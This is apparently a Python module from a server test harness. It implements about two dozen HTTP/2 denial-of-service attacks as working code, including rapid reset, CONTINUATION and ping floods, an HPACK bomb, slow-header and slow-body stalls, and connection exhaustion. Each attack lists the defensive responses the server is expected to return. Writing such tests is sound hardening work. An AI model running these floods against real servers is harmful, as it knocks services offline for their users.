"""The attacks. Each is a function, with what the server has to answer and how it counts it."""

import json
import select
import socket
import struct
import time

from . import wire
from .wire import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GREATEST_WINDOW, HEADERS, INITIAL_WINDOW,
    MAGIC, PING, PRIORITY, SETTINGS, frame, headers, reset, settings, streams, window_update,
)

CALM = "GOAWAY ENHANCE_YOUR_CALM"
ATTACKS = {}


class Attack:
    def __init__(self, body, labels, answers, also):
        self.name = body.__name__
        self.body = body
        # What may be counted, by the metric's label; one of them has to be.
        self.labels = labels
        # One of these has to come.
        self.answers = answers
        # These may come as well, and nothing else.
        self.also = also


def attack(labels, *answers, also=()):
    def add(body):
        ATTACKS[body.__name__] = Attack(body, labels.split(), answers, also)
        return body
    return add


class Attempt:
    """One run of an attack: where to, for how long, and what came back."""

    # Enough connections for a flood that is closed again and again.
    MOST_CONNECTIONS = 10_000

    def __init__(self, target, token, session, seconds, is_test):
        self.target = target
        self.token = token
        self.session = session
        self.is_test = is_test
        self.deadline = time.monotonic() + seconds
        self.connections = 0
        self.answers = {}
        self.notes = []

    def answered(self, what, count=1):
        if count:
            self.answers[what] = self.answers.get(what, 0) + count

    def goes_on(self):
        """Whether there is time for another connection. A test needs only a few."""
        return (time.monotonic() < self.deadline and self.connections < self.MOST_CONNECTIONS
                and not (self.is_test and self.connections >= 6))

    def some(self, many, few):
        return few if self.is_test else many

    def connect(self, extra=b"", values=None, **options):
        self.connections += 1
        preface = options.pop("preface", MAGIC + settings(values))
        return wire.Peer(self.target, self.deadline + 1, preface=preface + extra, **options)

    def block(self, procedure="getSessionStatus", content_type="application/user-api+json",
              extra=()):
        return wire.request_block(procedure, self.token, content_type, extra)

    def body(self, **fields):
        return wire.envelope(json.dumps({"sessionName": self.session, **fields}).encode())

    def done(self, peer, is_open="left open"):
        """Notes what the server answered on this connection, and ends it.

        `is_open` is what to note of a connection that goes on; None where that is no answer.
        """
        for code, count in peer.resets.items():
            self.answered("RST_STREAM " + wire.code_name(code), count)
        for reason, count in peer.reasons.items():
            self.answered(reason, count)
        outcome = peer.outcome() or is_open
        if outcome:
            self.answered(outcome)
        peer.close()

    def flood(self, chunks, **options):
        """Sends what `chunks()` gives, on connection after connection, as fast as it goes."""
        while self.goes_on():
            peer = self.connect(**options)
            for chunk in chunks():
                if not peer.send(chunk):
                    break
            if peer.goaway is not None and not peer.is_closed:
                peer.read(lambda p: False, 6)
            # One that the time cut off was not answered yet.
            self.done(peer, is_open=None)

    def hold(self, peers, seconds, is_over=lambda peer: False, is_open="left open"):
        """Reads, and otherwise waits until the server has ended all of them."""
        end = time.monotonic() + seconds
        waiting = [p for p in peers if not p.is_closed]
        while waiting and time.monotonic() < end:
            poll = select.poll()
            for peer in waiting:
                poll.register(peer, select.POLLIN)
            poll.poll(100)
            for peer in waiting:
                peer.receive()
                peer._answer()
            waiting = [p for p in waiting if not p.is_closed and not is_over(p)]
        for peer in peers:
            self.done(peer, is_open=None if is_over(peer) else is_open)


def repeated(data, size=1 << 16):
    """A chunk of many of the same frames, without end."""
    chunk = data * max(1, size // len(data))

    def chunks():
        while True:
            yield chunk
    return chunks


def per_stream(make, each=50):
    """Chunks in which `make(stream)` stands for one stream after the other. What was made is
    kept, for the next connection."""
    kept = []

    def chunks():
        ids = streams()
        for i in range(0, 1 << 20, each):
            if i // each == len(kept):
                kept.append(b"".join(make(ids[i + j]) for j in range(each)))
            yield kept[i // each]
    return chunks


# Frames without end.


@attack("resets", CALM, also=("RST_STREAM REFUSED_STREAM",))
def rapid_reset(run):
    block, body = run.block(), run.body()
    run.flood(per_stream(
        lambda s: headers(s, block) + frame(DATA, END_STREAM, s, body) + reset(s)))


@attack("resets", CALM, also=(
    "GOAWAY PROTOCOL_ERROR", "GOAWAY STREAM_CLOSED", "GOAWAY FLOW_CONTROL_ERROR",
    "RST_STREAM PROTOCOL_ERROR", "RST_STREAM STREAM_CLOSED", "RST_STREAM FLOW_CONTROL_ERROR",
    "RST_STREAM REFUSED_STREAM"))
def provoked_reset(run):
    """Requests, each followed by a frame for which the server resets the stream itself."""
    block, body = run.block("getWhatsAppContacts"), run.body(limit=10_000)

    def request(stream):
        return headers(stream, block) + frame(DATA, END_STREAM, stream, body)

    provocations = [
        lambda s: window_update(s, GREATEST_WINDOW),
        lambda s: headers(s, block),
        lambda s: window_update(s, 0),
        lambda s: frame(DATA, 0, s, b"x"),
        lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 15)),
    ]
    # The first two reset the stream; to libnghttp2 the others are errors of the connection.
    kinds = [per_stream(lambda s, p=p: request(s) + p(s)) for p in provocations]
    turn = 0

    def chunks():
        nonlocal turn
        turn += 1
        return kinds[turn % len(kinds)]()
    run.flood(chunks)


@attack("continuations", CALM)
def continuation(run):
    block = run.block()
    begin = frame(HEADERS, END_STREAM, 1, block)
    # Empty ones, and full ones: 64 fields of 256 bytes each.
    kinds = [b"", (b"\x10\x01x\x7f\x7c" + b"v" * 251) * 64]
    turn = 0

    def chunks():
        nonlocal turn
        turn += 1
        yield begin
        yield from repeated(frame(CONTINUATION, 0, 1, kinds[turn % 2]))()
    # An acknowledgement between the frames of a block would be an error of its own.
    run.flood(chunks, acks=False)


@attack("pings", CALM)
def ping(run):
    run.flood(repeated(frame(PING, 0, 0, b"attacker")))


@attack("settings", CALM)
def settings_flood(run):
    run.flood(repeated(settings()))


@attack("priorities", CALM)
def priority(run):
    run.flood(per_stream(lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", 0, 15)), each=1000))


@attack("small_data", CALM)
def empty_data(run):
    empty = repeated(frame(DATA, 0, 1))
    begin = headers(1, run.block())

    def chunks():
        yield begin
        yield from empty()
    run.flood(chunks)


@attack("small_data", CALM)
def one_byte_data(run):
    block = run.block()
    # A message of a MiB, a byte at a time; not more on a stream than its window takes.
    head = b"\0" + struct.pack(">I", (1 << 20) - 16)

    def chunks():
        for stream in streams():
            yield headers(stream, block) + frame(DATA, 0, stream, head)
            chunk = frame(DATA, 0, stream, b"x") * 4000
            for _ in range(10):
                yield chunk
    run.flood(chunks)


@attack("window_updates", CALM)
def window_update_dribble(run):
    """Reads a large answer a byte at a time."""
    begin = headers(1, run.block("getWhatsAppContacts")) + frame(
        DATA, END_STREAM, 1, run.body(limit=10_000))
    updates = repeated(window_update(1, 1), 1 << 14)

    def chunks():
        yield begin
        yield from updates()
    run.flood(chunks, values={INITIAL_WINDOW: 0})


@attack("unknown_frames", CALM)
def unknown_frames(run):
    run.flood(repeated(frame(0xFA, 0, 0) + frame(0xFB, 0xFF, 1, b"12345678")))


# Header blocks. A flood of them may get ahead of the answers, and then has too many streams open.
MANY_STREAMS = ("RST_STREAM REFUSED_STREAM", "GOAWAY PROTOCOL_ERROR")


@attack("header_list_size", "HEADERS_TOO_LARGE", CALM, also=MANY_STREAMS)
def header_bytes(run):
    block = run.block(extra=[("x-%d" % i, "v" * 400) for i in range(60)])
    run.flood(per_stream(lambda s: headers(s, block, end_stream=True), each=10))


@attack("header_fields", "HEADERS_TOO_LARGE", CALM, also=MANY_STREAMS)
def header_fields(run):
    block = run.block()
    kinds = [
        # One entry put into the dynamic table, and referred to with a byte each.
        block + b"\x40\x01x\x01y" + b"\xbe" * 300,
        # The same out of the static table: `accept-encoding: gzip, deflate`.
        block + b"\x90" * 200,
        # Crumbs of a cookie.
        block + b"\x0f\x11\x01a" * 300,
    ]
    kinds = [per_stream(lambda s, k=k: headers(s, k, end_stream=True)) for k in kinds]
    turn = 0

    def chunks():
        nonlocal turn
        turn += 1
        return kinds[turn % len(kinds)]()
    run.flood(chunks)


@attack("header_list_size", "HEADERS_TOO_LARGE", CALM, also=MANY_STREAMS)
def hpack_bomb(run):
    # A value of 4,000 bytes, 10,000 times: 40 MB out of 14 KB.
    bomb = run.block() + b"\x40\x01x\x7f" + _integer(4000 - 127) + b"v" * 4000 + b"\xbe" * 10_000
    run.flood(per_stream(lambda s: headers(s, bomb, end_stream=True), each=5))


def _integer(rest):
    """What follows a prefix of ones (RFC 7541, section 5.1)."""
    out = b""
    while rest >= 128:
        out += bytes([rest & 127 | 128])
        rest >>= 7
    return out + bytes([rest])


# Peers that do not read, or not write.


@attack("write_stall_timeout buffered buffered_per_connection", CALM,
        also=("CONNECTION_BUFFER_FULL", "RST_STREAM CANCEL"))
def zero_window(run):
    """Asks for much, and has no window for it."""
    _ask_and_do_not_take(run, values={INITIAL_WINDOW: 0})


@attack("write_stall_timeout buffered buffered_per_connection", "closed", CALM,
        also=("CONNECTION_BUFFER_FULL", "RST_STREAM CANCEL"))
def slow_reader(run):
    """Asks for much, has a window for it, and does not read it from the socket."""
    _ask_and_do_not_take(
        run, values={INITIAL_WINDOW: GREATEST_WINDOW}, receive_buffer=4096, reads=False,
        extra=window_update(0, GREATEST_WINDOW - 65535))


def _ask_and_do_not_take(run, **options):
    block, body = run.block("getWhatsAppContacts"), run.body(limit=10_000)
    ask = b"".join(
        headers(s, block) + frame(DATA, END_STREAM, s, body) for s in streams()[:run.some(40, 12)])
    open_, over = [], []
    while run.goes_on():
        while len(open_) < run.some(10, 3) and run.connections < run.some(40, 6):
            peer = run.connect(**options)
            peer.send(ask)
            open_.append(peer)
        time.sleep(0.05)
        for peer in list(open_):
            if peer.reads:
                peer.receive()
            else:
                _notice_end(peer)
            if peer.is_closed:
                open_.remove(peer)
                over.append(peer)
    # Whoever does not read is not to be read from before the server has given it up.
    end = time.monotonic() + 15
    while time.monotonic() < end and not all(_notice_end(p) for p in open_ if not p.reads):
        time.sleep(0.1)
    for peer in over + open_:
        if not peer.reads:
            peer.is_closed = False
            peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    run.hold(over + open_, 15)


def _notice_end(peer):
    """Whether the server has ended a connection that is not read from. A byte that it would have
    to refuse is what brings that to light."""
    if peer.is_closed:
        return True
    poll = select.poll()
    poll.register(peer, 0)
    if any(event & (select.POLLERR | select.POLLHUP) for _, event in poll.poll(0)):
        peer.is_closed = True
        return True
    return False


@attack("pings settings", "closed", CALM)
def unread_acks(run):
    """Demands acknowledgements, and reads none."""
    kinds = [frame(PING, 0, 0, b"attacker"), settings()]
    while run.goes_on():
        peer = run.connect(receive_buffer=4096, reads=False)
        for chunk in repeated(kinds[run.connections % 2])():
            if not peer.send(chunk):
                break
        if peer.is_closed:
            peer.is_closed = False
            peer.read(lambda p: False, 6)
        run.done(peer, is_open=None)


@attack("handshake_timeout", CALM)
def no_preface(run):
    """Nothing, a part of the magic, the magic without SETTINGS."""
    parts = [b"", MAGIC[:10], MAGIC]
    peers = [run.connect(preface=parts[i % 3], acks=False) for i in range(run.some(300, 9))]
    run.hold(peers, 30)


@attack("header_timeout", CALM)
def slow_headers(run):
    """A HEADERS frame of which a byte comes every second."""
    # A field of 2,000 bytes is what comes so slowly.
    head = run.block() + b"\x10\x01x\x7f" + _integer(2000 - 127)
    begin = frame(HEADERS, END_HEADERS | END_STREAM, 1, head + b"v" * 2000)[:9 + len(head)]
    peers = [run.connect(extra=begin) for _ in range(run.some(200, 6))]
    end = time.monotonic() + 30
    while time.monotonic() < end and not all(p.is_closed for p in peers):
        time.sleep(run.some(1, 0.1))
        for peer in peers:
            if not peer.is_closed:
                peer.send(b"v")
    run.hold(peers, 1)


@attack("body_timeout buffered_per_connection buffered", "BODY_TIMEOUT", "CONNECTION_BUFFER_FULL",
        also=(CALM, "RST_STREAM CANCEL", "RST_STREAM NO_ERROR", "RST_STREAM REFUSED_STREAM"))
def slow_body(run):
    """256 streams on each connection, with a message of almost a MiB that never ends."""
    block = run.block()
    ids = streams()[:run.some(256, 24)]
    head = b"\0" + struct.pack(">I", (1 << 20) - 16)
    begin = b"".join(headers(s, block) + frame(DATA, 0, s, head) for s in ids)
    peers = []
    for _ in range(run.some(4, 1)):
        peer = run.connect()
        peer.read(lambda p: p.has_settings, 5)
        peer.send(begin)
        for stream in ids:
            peer.took(stream, 5)
        peers.append((peer, {s: (1 << 20) - 17 for s in ids}))
    while time.monotonic() < run.deadline:
        is_idle = True
        for peer, left in peers:
            peer.receive()
            if peer.is_closed:
                continue
            for stream in list(left):
                if stream in peer.ended or stream in peer.reset_streams or left[stream] == 0:
                    del left[stream]
                    continue
                count = min(16384, left[stream], peer.room(stream))
                if count <= 0:
                    continue
                is_idle = False
                peer.took(stream, count)
                left[stream] -= count
                if not peer.send(frame(DATA, 0, stream, b"x" * count)):
                    break
        if is_idle:
            time.sleep(0.01)
        if all(peer.is_closed or self_over(peer, ids) for peer, _ in peers):
            break
    run.hold([peer for peer, _ in peers], 15, is_over=lambda p: self_over(p, ids))


def self_over(peer, ids):
    """Whether every one of the streams has its answer."""
    return all(s in peer.ended or s in peer.reset_streams for s in ids)


# Too many, too large, and something else.


@attack("connections_per_address", CALM, also=("closed",))
def connections_per_address(run):
    peers = []
    refused = []
    while len(refused) < run.some(100, 5) and len(peers) < 5000 and time.monotonic() < run.deadline:
        new = [run.connect(source="127.0.0.2") for _ in range(25)]
        for peer in new:
            peer.read(lambda p: p.has_settings or p.is_closed, 5)
            peer.read(lambda p: p.goaway is not None, 0.002)
        peers += new
        refused = [p for p in peers if p.goaway is not None or p.is_closed]
    for peer in refused:
        peer.read(lambda p: False, 6)
    run.notes.append("%d of %d taken" % (len(peers) - len(refused), len(peers)))
    for peer in peers:
        run.done(peer, is_open=None)


@attack("connections", "waits, then served")
def connections(run):
    """From many addresses, until the server takes no more; then some leave."""
    taken, waiting = [], []
    end = time.monotonic() + 30
    while len(waiting) < 5 and len(taken) < 15_000 and time.monotonic() < end:
        new = []
        for _ in range(25):
            count = len(taken) + len(waiting) + len(new)
            peer = run.connect(source="127.0.1.%d" % (1 + count // 25 % 250))
            peer.deadline = end + 30
            new.append(peer)
        for peer in new:
            is_taken = peer.read(lambda p: p.has_settings, 0.2 if waiting else 2)
            (taken if is_taken else waiting).append(peer)
    run.notes.append("%d taken" % len(taken))
    if len(waiting) < 5:
        run.answered("all are served")
    else:
        # As many leave as wait, and a few, which may have been let in by one of those who left.
        for peer in taken[-len(waiting) - 5:]:
            peer.close()
        del taken[-len(waiting) - 5:]
        for peer in waiting:
            is_served = peer.read(lambda p: p.has_settings, 10)
            run.answered("waits, then served" if is_served else "waits, never served")
    for peer in taken + waiting:
        if peer.outcome():
            run.answered(peer.outcome())
        peer.close()


@attack("message_size", "MESSAGE_TOO_LARGE", also=("RST_STREAM NO_ERROR", CALM))
def big_body(run):
    """Messages over the limit, from which the sender does not desist."""
    framed = b"\0" + struct.pack(">I", 64 << 20)
    until_answer, until_end = [], []
    while run.goes_on():
        peer = run.connect()
        peer.read(lambda p: p.has_settings, 5)
        is_framed = run.connections % 2
        peer.send(headers(1, run.block(
            content_type="application/user-api+json" if is_framed else "application/json")))
        first, sent = (framed if is_framed else b'{"x":"'), 0
        rest = b"x" * 16384
        answered_at = None
        while not peer.is_closed and 1 not in peer.reset_streams and sent < 64 << 20 \
                and time.monotonic() < run.deadline + 5:
            count = min(16384, peer.room(1))
            if count <= 0:
                peer.read(lambda p: p.room(1) > 0 or 1 in p.reset_streams, 0.5)
                continue
            payload = (first + rest)[:count] if sent == 0 else rest[:count]
            peer.took(1, count)
            peer.send(frame(DATA, 0, 1, payload))
            sent += count
            if answered_at is None and 1 in peer.ended:
                answered_at = sent
                until_answer.append(sent)
        until_end.append(sent)
        run.done(peer, is_open=None)
    if until_answer:
        run.notes.append("answered after %d to %d KiB, reset after at most %d KiB" % (
            min(until_answer) >> 10, max(until_answer) >> 10, max(until_end) >> 10))


@attack("", "HTTP/1.1 505 HTTP Version Not Supported")
def http1(run):
    """Something other than HTTP/2."""
    kinds = [
        b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 20,
        bytes(range(256)) * 256,
    ]
    while run.goes_on():
        peer = run.connect(preface=kinds[run.connections % 3])
        peer.read(lambda p: False, 6)
        run.done(peer)


@attack("streams", "RST_STREAM REFUSED_STREAM", "GOAWAY PROTOCOL_ERROR", also=(CALM,))
def stream_flood(run):
    """Streams that stay open, more than are allowed; with the server's SETTINGS acknowledged and
    without."""
    block = run.block()
    chunks = per_stream(lambda s: headers(s, block), each=100)
    while run.goes_on():
        peer = run.connect(acks=run.connections % 2 == 0)
        peer.read(lambda p: p.has_settings, 5)
        for i, chunk in enumerate(chunks()):
            if not peer.send(chunk) or i == 50:
                break
            # So that the refusals are read before the connection goes.
            peer.read(lambda p: p.resets or p.is_closed, 0.01)
        peer.read(lambda p: p.resets or p.is_closed, 1)
        run.done(peer, is_open=None)
